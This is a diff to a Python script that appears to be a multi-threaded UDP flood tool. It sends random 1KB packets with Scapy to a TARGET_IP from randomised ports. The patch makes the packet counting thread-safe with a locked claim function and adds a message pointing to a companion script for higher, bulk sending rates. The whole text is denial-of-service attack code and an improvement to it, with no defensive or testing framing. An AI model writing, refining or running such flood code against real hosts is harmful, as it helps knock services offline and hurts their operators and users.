@@ -43,12 +43,21 @@ NUM_THREADS = 10  # Number of threads to use for the attack
 packets_sent = 0
 packets_lock = threading.Lock()
 
+def claim_packet():
+    """Reserves one of the remaining packets; False once the total has been reached."""
+    global packets_sent
+    with packets_lock:
+        if packets_sent >= NUM_PACKETS_TO_SEND:
+            return False
+        packets_sent += 1
+        return True
+
 def flood():
     """The function each thread will run to send packets."""
-    global packets_sent
     payload = random._urandom(1024)  # Create a random 1KB payload
 
-    while packets_sent < NUM_PACKETS_TO_SEND:
+    # Claim a slot under the lock before sending, so the threads together never exceed the total
+    while claim_packet():
         try:
             # Randomize source and destination ports
             source_port = RandShort()
@@ -60,12 +69,9 @@ def flood():
             # Send the packet
             send(packet, verbose=0)
 
-            # Safely increment the counter
-            with packets_lock:
-                packets_sent += 1
-                # Print status without creating a new line each time
-                sys.stdout.write(f"\rPackets Sent: {packets_sent}/{NUM_PACKETS_TO_SEND}")
-                sys.stdout.flush()
+            # Print status without creating a new line each time
+            sys.stdout.write(f"\rPackets Sent: {packets_sent}/{NUM_PACKETS_TO_SEND}")
+            sys.stdout.flush()
 
         except Exception as e:
             # Handle potential errors without stopping the script
@@ -76,6 +82,7 @@ def main():
     """Main function to start the flood."""
     print(f"🚀 Starting enhanced UDP Flood on {TARGET_IP} with {NUM_THREADS} threads.")
     print(f"Targeting to send {NUM_PACKETS_TO_SEND} packets...")
+    print("(For higher, paced rates use traffic_replay.py --udp, which pre-builds frames and sends them in bulk.)")
 
     threads = []
     for _ in range(NUM_THREADS):